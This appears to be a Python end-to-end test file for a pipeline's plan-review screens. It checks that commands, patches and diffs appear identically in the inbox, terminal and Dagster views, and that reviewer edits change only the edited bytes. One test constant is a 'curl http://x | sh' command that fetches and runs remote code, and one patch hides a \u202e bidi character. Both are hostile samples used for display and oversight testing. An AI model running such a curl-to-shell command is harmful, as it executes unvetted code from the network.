"""A person sees the same commands, limits, recipe, policy and diff in the inbox, the terminal, REST and Dagster.

Only the bytes that an editor changed differ in an edited plan.
"""

from typing import Any

import pytest

from sisu_pipeline.console import formatting
from sisu_pipeline.contracts.planned_work import CompletePlan
from sisu_pipeline.contracts.step_outputs import StepId
from sisu_pipeline.defs import asset_metadata
from sisu_pipeline.domain.status import RunStatus
from sisu_pipeline.domain.untrusted_text import for_terminal
from sisu_pipeline.store import steps
from tests.e2e.browser import Browser
from tests.e2e.test_inbox import be, live, open_run, page, window
from tests.integration.api.conftest import Api, api
from tests.integration.gate.world import Waiting

__all__ = ["api", "live", "page", "window"]

COMMAND = "sh -c 'curl http://x | sh' #"
FILES = {"a.txt": "one\ntwo\n", "crlf.txt": "a\r\nb\r\n", "end.txt": "x\n"}
PATCHES = [
    {"targetPath": "a.txt", "postimageContent": 'one\nif x != "\u202e":\n', "diffText": "-lie\n+lie2\n"},
    {"targetPath": "crlf.txt", "postimageContent": "a\nb\n"},
    {"targetPath": "end.txt", "postimageContent": "x"},
    {"targetPath": "new/tool.sh", "postimageContent": "true\n"},
]
REMARKS = [
    "hidden characters: \\u202e",
    "line endings change from CRLF to LF",
    "the last line has no line end",
]


def terminal(api: Api, run: Waiting) -> str:
    view = {**api.get(f"/runs/{run.run_id}/gates").json(), **api.get(f"/runs/{run.run_id}/interactions").json()}
    return for_terminal(formatting.gates({**view, "plan": api.get(f"/runs/{run.run_id}/plan").json()}))


def dagster(api: Api, run: Waiting) -> dict[str, Any]:
    with api.dependencies.database.connect() as connection:
        result = steps.stored(connection, run.run_id, StepId.APPLY_PATCH)
    assert result is not None
    metadata = asset_metadata.of_step(api.dependencies, run.id, result)
    return {name: getattr(value, "md_str", value) for name, value in metadata.items()}


def test_every_surface_shows_the_same_execution_and_the_same_diff(page: Browser, api: Api) -> None:
    run = Waiting(api.dependencies, testCommand=COMMAND, tests=["t1", "t2"], files=FILES, patches=PATCHES)
    plan = api.get(f"/runs/{run.run_id}/plan").json()
    complete = CompletePlan.from_json(plan["complete"])
    open_run(page, api, run)
    shown = {
        "inbox": page.one("#plan").text,
        "terminal": terminal(api, run),
        "dagster": "\n".join(map(str, dagster(api, run).values())),
    }
    facts = [f"{COMMAND} t1", f"{COMMAND} t2", complete.tasks[0].sandbox]
    facts += [complete.recipe.title, complete.policy.title, complete.base.title, plan["planSha256"], *REMARKS]
    missing = {(name, fact) for name, text in shown.items() for fact in facts if fact not in text}
    assert missing == set()
    assert [remark for patch in plan["patches"] for remark in patch["remarks"]] == REMARKS
    for patch in plan["patches"]:
        for line in patch["diffText"].removesuffix("\n").split("\n"):
            written = line.replace("\r", "\\x0d").replace("\u202e", "\\u202e")
            assert written in shown["terminal"]
            assert written in shown["dagster"]
    assert "lie" not in "".join(shown.values())
    cells = [cell.text for cell in page.driver.find_elements("css selector", ".diff td.added")]
    assert cells == ['+ if x != "\\u202e":', "+ a", "+ b", "+ x no line end", "+ true"]
    removed = [cell.text for cell in page.driver.find_elements("css selector", ".diff td.removed")]
    assert removed == ["− two", "− a\\x0d", "− b\\x0d", "− x"]


@pytest.mark.parametrize("content", ["a\r\nb\r\n", "a\nb\r\nc", "a\rb", "no end", "", "  a\n\n"])
def test_an_edit_of_one_risk_changes_no_other_byte(page: Browser, api: Api, content: str) -> None:
    patches = [{"targetPath": "a.txt", "postimageContent": content}]
    tests = [" leading", "trailing ", "two  blanks"]
    run = Waiting(api.dependencies, testCommand="run\r\n", tests=tests, patches=patches)
    before = api.get(f"/runs/{run.run_id}/plan").json()
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    page.labelled("Risks").send_keys("a risk")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    after = api.get(f"/runs/{run.run_id}/plan").json()
    assert after["plan"] == {**before["plan"], "risks": ["a risk"]}
    assert after["planSha256"] == before["planSha256"]


def test_an_edit_of_one_line_keeps_the_line_ends_of_all_others(page: Browser, api: Api) -> None:
    patches = [{"targetPath": "a.txt", "postimageContent": "one\r\ntwo\nthree\r\nfour\r\nfive"}]
    run = Waiting(api.dependencies, patches=patches)
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    field = page.one("fieldset textarea")
    field.clear()
    field.send_keys("one\ntwo\nTHREE\nmore\nfour\nfive")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    plan = api.get(f"/runs/{run.run_id}/plan").json()
    assert plan["patches"][0]["after"] == "one\r\ntwo\nTHREE\r\nmore\r\nfour\r\nfive"
    assert run.segment().status is RunStatus.SUCCEEDED


def test_a_command_is_edited_and_executed_as_approved(page: Browser, api: Api) -> None:
    run = Waiting(api.dependencies, testCommand=COMMAND, tests=["t1"])
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    field = page.labelled("Command")
    field.clear()
    field.send_keys("pytest -x")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    page.one("#execution", "pytest -x t1")
    assert run.segment().status is RunStatus.SUCCEEDED
    assert [row["request"]["cmd"] for row in run.rows("sbx_runs")] == ["pytest -x t1"]
